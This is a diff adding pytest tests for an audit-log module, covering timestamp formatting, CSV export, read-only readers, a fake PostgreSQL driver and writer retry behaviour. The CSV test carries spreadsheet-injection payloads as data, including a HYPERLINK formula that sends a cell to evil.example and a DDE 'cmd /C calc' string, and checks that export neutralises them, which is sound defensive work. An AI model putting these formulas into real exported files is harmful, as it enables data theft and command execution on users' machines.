@@ -2,15 +2,22 @@
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import dataclasses
+import errno
 import importlib.util
+import logging
 import os
+import random
 import sqlite3
+import sys
 import threading
 import time
-from collections.abc import Sequence
+import types
+from collections.abc import Callable, Iterator, Sequence
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -25,6 +32,8 @@ from hybridroute.monitoring.audit import (
     AuditWriter,
     PostgresAuditStore,
     SQLiteAuditStore,
+    csv_cell,
+    iso_time,
     load_or_create_salt,
     open_audit_reader,
     open_audit_store,
@@ -373,4 +382,328 @@ def test_old_logs_gain_the_input_profile_columns(tmp_path: Path) -> None:
     with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
         rows = list(csv.reader(handle))
     assert rows[0][-2:] == ["text_length", "unk_rate"] and rows[2][-2:] == ["12", "0.25"]
+    store.close()
+
+
+# ---------------------------------------------------------------- printed times
+
+
+def test_a_printed_time_works_as_since_and_until(store: SQLiteAuditStore) -> None:
+    at = 1733425123.4567897  # a time.time() value whose microseconds would round up
+    store.write_many([record(0, at=at)])
+    shown = iso_time(at)
+    assert shown == "2024-12-05T18:58:43.456789+00:00"  # truncated, not rounded to ...457
+    assert [r.request_id for r in store.query(since=parse_time(shown))] == ["req-0"]
+    assert store.query(until=parse_time(shown)) == []  # --until is exclusive
+
+
+def test_a_printed_time_never_lies_after_the_time_it_prints() -> None:
+    rng = random.Random(0)
+    times = [0.0, -1.5, 1.9999997, 1733425123.4567897, *(rng.uniform(-1e9, 4e9) for _ in range(5000))]
+    for at in times:
+        back = parse_time(iso_time(at))
+        assert back <= at < back + 2e-6, (at, iso_time(at))
+
+
+# ---------------------------------------------------------------- CSV cells
+
+
+def test_csv_cell_neutralises_formulas_only() -> None:
+    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
+        "'=1+1",
+        "'+1",
+        "'-1",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+    ]
+    assert [csv_cell(v) for v in ("hello", "a=b", "", None, -0.5, 3, True)] == ["hello", "a=b", "", None, -0.5, 3, True]
+
+
+def test_csv_export_cannot_run_formulas_and_keeps_numbers_numeric(store: SQLiteAuditStore, tmp_path: Path) -> None:
+    texts = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tx",
+        "\rx",
+    ]
+    records = [dataclasses.replace(record(i), text=t) for i, t in enumerate(texts)]
+    records.append(dataclasses.replace(record(9), text="fine - text", label="=evil()", edge_confidence=-0.25))
+    store.write_many(records)
+    out = tmp_path / "out.csv"
+    assert store.export_csv(out) == len(records)
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["text"] for row in rows[:-1]] == ["'" + t for t in texts]
+    assert rows[-1]["text"] == "fine - text" and rows[-1]["label"] == "'=evil()"
+    assert rows[-1]["edge_confidence"] == "-0.25" and rows[-1]["cost"] == "0.001"  # numbers stay numbers
+    assert rows[0]["time"].startswith("2023-11-14T22:13:20")
+
+
+# ---------------------------------------------------------------- the read-only reader
+
+
+def test_the_reader_sees_records_not_yet_checkpointed(store: SQLiteAuditStore) -> None:
+    store.write_many([record(0), record(1)])
+    wal = store.path.with_name(store.path.name + "-wal")
+    assert wal.stat().st_size > 0  # the writer is open: the records are still in the write-ahead log
+    reader = open_audit_reader(store.path)
+    try:
+        assert [r.request_id for r in reader.query()] == ["req-0", "req-1"] and reader.count() == 2
+        with pytest.raises(sqlite3.OperationalError, match="readonly"):
+            reader.add_feedback("req-0", "negative", 1.0)
+    finally:
+        reader.close()
+
+
+def test_the_reader_changes_nothing_in_an_old_log(tmp_path: Path) -> None:
+    path = tmp_path / "old.db"
+    old_columns = [c for c in COLUMNS if c not in ("text_length", "unk_rate")]
+    with contextlib.closing(sqlite3.connect(path)) as connection:
+        connection.execute(f"CREATE TABLE audit (id INTEGER PRIMARY KEY, {', '.join(old_columns)})")
+        connection.execute(
+            f"INSERT INTO audit ({', '.join(old_columns)}) VALUES ({', '.join('?' * len(old_columns))})",
+            dataclasses.astuple(record(1))[: len(old_columns)],
+        )
+        connection.commit()
+    before = path.read_bytes()
+    reader = open_audit_reader(path)
+    try:
+        (old,) = reader.query()
+        assert old.request_id == "req-1" and (old.text_length, old.unk_rate) == (None, None)
+    finally:
+        reader.close()
+    assert path.read_bytes() == before  # no column added, no WAL switch: a reader leaves the log as it is
+
+
+# ---------------------------------------------------------------- PostgreSQL, through a fake driver
+
+
+class FakePostgres:
+    """psycopg's ``connect`` over in-memory SQLite that, like PostgreSQL, refuses every statement after an
+    error until the transaction is rolled back ("current transaction is aborted")."""
+
+    def __init__(self) -> None:
+        self.db = sqlite3.connect(":memory:", check_same_thread=False)
+        self.statements: list[str] = []
+        self.fail_on: str | None = None  # the next statement starting with this fails
+        self.aborted = False
+        self.rollbacks = 0
+
+    def connect(self, url: str) -> FakePostgres:
+        return self
+
+    def cursor(self) -> FakeCursor:
+        return FakeCursor(self)
+
+    def commit(self) -> None:
+        self.db.commit()
+
+    def rollback(self) -> None:
+        self.db.rollback()
+        self.aborted = False
+        self.rollbacks += 1
+
+    def close(self) -> None:
+        pass
+
+
+class FakeCursor:
+    def __init__(self, server: FakePostgres) -> None:
+        self.server, self.inner = server, server.db.cursor()
+
+    @property
+    def description(self) -> Any:
+        return self.inner.description
+
+    @property
+    def rowcount(self) -> int:
+        return self.inner.rowcount
+
+    def execute(self, sql: str, params: Sequence[Any] = ()) -> None:
+        self._run(sql, lambda translated: self.inner.execute(translated, params))
+
+    def executemany(self, sql: str, rows: Sequence[Sequence[Any]]) -> None:
+        self._run(sql, lambda translated: self.inner.executemany(translated, rows))
+
+    def fetchall(self) -> list[Any]:
+        return self.inner.fetchall()
+
+    def fetchone(self) -> Any:
+        return self.inner.fetchone()
+
+    def _run(self, sql: str, call: Callable[[str], object]) -> None:
+        server = self.server
+        if server.aborted:
+            raise sqlite3.OperationalError("current transaction is aborted, commands ignored until end of block")
+        server.statements.append(sql)
+        if server.fail_on and sql.lstrip().startswith(server.fail_on):
+            server.fail_on, server.aborted = None, True
+            raise sqlite3.OperationalError("canceling statement due to statement timeout")
+        try:
+            call(
+                sql.replace("%s", "?").replace("BIGINT GENERATED ALWAYS AS IDENTITY PRIMARY KEY", "INTEGER PRIMARY KEY")
+            )
+        except sqlite3.Error:
+            server.aborted = True
+            raise
+
+
+PG_URL = "postgresql://auditor:pw@db.internal/audit"
+
+
+@pytest.fixture
+def postgres(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakePostgres]:
+    server = FakePostgres()
+    monkeypatch.setitem(sys.modules, "psycopg", types.SimpleNamespace(connect=server.connect, Error=sqlite3.Error))
+    yield server
+    server.db.close()
+
+
+def test_a_postgres_reader_creates_no_schema(postgres: FakePostgres) -> None:
+    with pytest.raises(ConfigError, match=r"auditor:\*\*\*@db.internal/audit has no readable audit table"):
+        open_audit_reader(PG_URL)
+    assert postgres.statements and not any(s.lstrip().startswith(("CREATE", "ALTER")) for s in postgres.statements)
+    assert postgres.rollbacks == 1 and not postgres.aborted
+
+
+def test_a_postgres_reader_reads_an_older_log_without_changing_it(postgres: FakePostgres) -> None:
+    old_columns = [c for c in COLUMNS if c not in ("text_length", "unk_rate")]
+    postgres.db.execute(f"CREATE TABLE audit (id INTEGER PRIMARY KEY, {', '.join(old_columns)})")
+    postgres.db.execute(
+        f"INSERT INTO audit ({', '.join(old_columns)}) VALUES ({', '.join('?' * len(old_columns))})",
+        dataclasses.astuple(record(1))[: len(old_columns)],
+    )
+    reader = open_audit_reader(PG_URL)
+    (old,) = reader.query()
+    assert old.request_id == "req-1" and (old.text_length, old.unk_rate) == (None, None)
+    assert all(s.lstrip().startswith("SELECT") for s in postgres.statements)
+
+
+@pytest.mark.parametrize("statement", ["UPDATE", "SELECT"])
+def test_a_failed_statement_is_rolled_back_so_the_shared_connection_keeps_working(
+    postgres: FakePostgres, statement: str
+) -> None:
+    store = open_audit_store(PG_URL)
+    store.write_many([record(0)])
+    postgres.fail_on = statement
+    with pytest.raises(sqlite3.OperationalError, match="statement timeout"):
+        if statement == "UPDATE":
+            store.add_feedback("req-0", "negative", 5.0)
+        else:
+            store.query()
+    assert postgres.rollbacks == 1
+    assert store.count() == 1 and store.add_feedback("req-0", "negative", 5.0)  # not "transaction is aborted"
+
+
+# ---------------------------------------------------------------- writer: close, backoff
+
+
+def test_submit_after_close_is_counted_as_failed_for_the_metric_too(store: SQLiteAuditStore) -> None:
+    failed: list[int] = []
+    writer = AuditWriter(store, on_failed=failed.append)
+    writer.start()
+    writer.close()
+    acks = Acks()
+    assert not writer.submit([record(0), record(1)], acks)
+    assert acks.statuses == [FAILED] and writer.failed == 2 and failed == [2] and writer.health()["lost"] == 2
+
+
+class FullDisk:
+    """A store whose every transaction fails with ENOSPC; records the time of each attempt."""
+
+    def __init__(self) -> None:
+        self.attempts: list[float] = []
+
+    def write_many(self, records: Sequence[AuditRecord], dropped: int = 0) -> None:
+        self.attempts.append(time.monotonic())
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+
+def test_the_retry_backoff_is_not_cut_short_by_new_submissions() -> None:
+    disk = FullDisk()
+    failed: list[int] = []
+    writer = AuditWriter(disk, on_failed=failed.append, retry_s=0.05, max_retry_s=2.0)  # type: ignore[arg-type]
+    writer.start()
+    submitted, end = 0, time.monotonic() + 0.6
+    while time.monotonic() < end:  # traffic at up to ~1000 submissions/s
+        writer.submit([record(submitted)])
+        submitted += 1
+        time.sleep(0.001)
+    attempts = len(disk.attempts)
+    writer.close(timeout_s=0.2)
+    assert submitted > 100
+    assert 2 <= attempts <= 6  # at 0, 0.05, 0.15, 0.35 s (next 0.75 s): the backoff, not one per submission
+    assert writer.failed == submitted and sum(failed) == submitted  # given up at the deadline, counted
+
+
+@pytest.fixture
+def locked_log(tmp_path: Path) -> Iterator[tuple[Path, sqlite3.Connection]]:
+    """An audit log another connection holds with ``BEGIN EXCLUSIVE`` (a backup, a maintenance job)."""
+    path = tmp_path / "audit.sqlite"
+    SQLiteAuditStore(path).close()
+    other = sqlite3.connect(path, isolation_level=None)
+    other.execute("BEGIN EXCLUSIVE")
+    yield path, other
+    if other.in_transaction:
+        other.execute("ROLLBACK")
+    other.close()
+
+
+def test_close_gives_up_a_transaction_stuck_behind_a_lock_and_counts_it(
+    locked_log: tuple[Path, sqlite3.Connection], caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.ERROR, "hybridroute.monitoring.audit")
+    store = SQLiteAuditStore(locked_log[0], busy_timeout_s=1.0)  # the first transaction waits 1 s for the lock
+    failed: list[int] = []
+    writer = AuditWriter(store, on_failed=failed.append)
+    writer.start()
+    acks = Acks()
+    writer.submit([record(i) for i in range(5)], acks)
+    started = time.monotonic()
+    writer.close(timeout_s=0.2)
+    assert time.monotonic() - started < 0.9  # close keeps its deadline although the transaction still runs
+    assert writer.failed == 5 and failed == [5] and writer.health()["lost"] == 5 and acks.statuses == [FAILED]
+    assert "did not finish within 0.2 s" in caplog.text and "5 records and 0 drops lost" in caplog.text
+    writer._thread.join(5.0)  # the stuck transaction times out; the writer stops without another attempt
+    assert not writer._thread.is_alive() and writer.failed_transactions == 1 and writer.failed == 5
+    store.close()
+
+
+def test_a_closing_writer_stops_retrying_at_its_deadline(
+    locked_log: tuple[Path, sqlite3.Connection], caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.ERROR, "hybridroute.monitoring.audit")
+    store = SQLiteAuditStore(locked_log[0], busy_timeout_s=0.05)
+    failed: list[int] = []
+    writer = AuditWriter(store, on_failed=failed.append, retry_s=0.01, max_retry_s=10.0)  # only the deadline ends it
+    writer.start()
+    acks = Acks()
+    writer.submit([record(i) for i in range(5)], acks)
+    writer.close(timeout_s=0.4)
+    assert writer.failed == 5 and failed == [5] and acks.statuses == [RETRYING]
+    assert "5 records and 0 drops lost" in caplog.text
+    writer._thread.join(1.0)  # at most the attempt running at the deadline was left to end
+    attempts = writer.failed_transactions
+    time.sleep(0.2)
+    assert not writer._thread.is_alive() and attempts >= 2 and writer.failed_transactions == attempts
+    store.close()
+
+
+def test_records_given_up_at_close_but_committed_later_are_not_counted_lost(
+    locked_log: tuple[Path, sqlite3.Connection], caplog: pytest.LogCaptureFixture
+) -> None:
+    path, other = locked_log
+    store = SQLiteAuditStore(path, busy_timeout_s=3.0)
+    writer = AuditWriter(store)
+    writer.start()
+    writer.submit([record(i) for i in range(5)])
+    writer.close(timeout_s=0.2)
+    assert writer.failed == 5
+    other.execute("ROLLBACK")  # the lock goes: the transaction still waiting commits after all
+    writer._thread.join(5.0)
+    assert store.count() == 5 and writer.committed == 5 and writer.failed == 0 and writer.health()["lost"] == 0
+    assert "committed after all" in caplog.text
     store.close()
